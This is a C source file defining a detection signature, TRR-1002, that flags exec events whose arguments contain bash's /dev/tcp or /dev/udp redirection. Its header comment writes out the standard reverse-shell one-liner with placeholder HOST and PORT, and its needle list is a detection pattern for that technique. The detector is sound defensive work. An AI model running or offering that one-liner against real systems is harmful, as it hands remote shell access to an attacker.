// SPDX-License-Identifier: MIT
/*
 * reverse_shell_dev_tcp.c: TRR-1002 reverse_shell_dev_tcp, a command line
 * using bash's /dev/tcp or /dev/udp redirections ("bash -i >&
 * /dev/tcp/HOST/PORT 0>&1"), the commonest one-line reverse shell.
 *
 * /dev/tcp is no file: bash opens the connection itself, so no open shows
 * it; the command line does (the shell that runs it was started with it
 * as an argument). TRC-101 catches the same shell by its redirected
 * stdio once dup2 is recorded; this one needs only exec events.
 */
#include "builtin.h"
#include "catalog.h"
#include "sigutil.h"

static int on_event(struct tr_sig_ctx *ctx, const struct tr_event_view *v)
{
	static const char *const needles[] = { "/dev/tcp/", "/dev/udp/" };

	if (v->def->id == TR_EV_EXECVE && v->ev->retval < 0)
		return 0;
	for (size_t i = 0; i < TR_SIGU_NELEM(needles); i++)
		if (tr_sigu__argv_has(v, "argv", needles[i])) {
			struct tr_kv data[1] = { TR_KV_CSTR("pattern", needles[i]) };

			return tr_sig__report(ctx, v, NULL, data, 1);
		}
	return 0;
}

const struct tr_signature tr_sig_reverse_shell_dev_tcp = {
	.id = "TRR-1002",
	.event_id = 6002,
	.name = "reverse_shell_dev_tcp",
	.description = "A command line uses bash's /dev/tcp or /dev/udp redirection, the one-line reverse shell",
	.severity = TR_SEV_HIGH,
	.origin = TR_ORIGIN_ANY,
	.mitre_id = "T1059.004",
	.mitre_name = "Unix Shell",
	.category = "execution",
	TR_SIG_TAGS("execution", "reverse-shell"),
	TR_SIG_EVENTS("sched_process_exec"),
	TR_SIG_ARGS({ "sched_process_exec", "argv", TR_WIRES_STR_ARRAY }),
	.on_event = on_event,
};
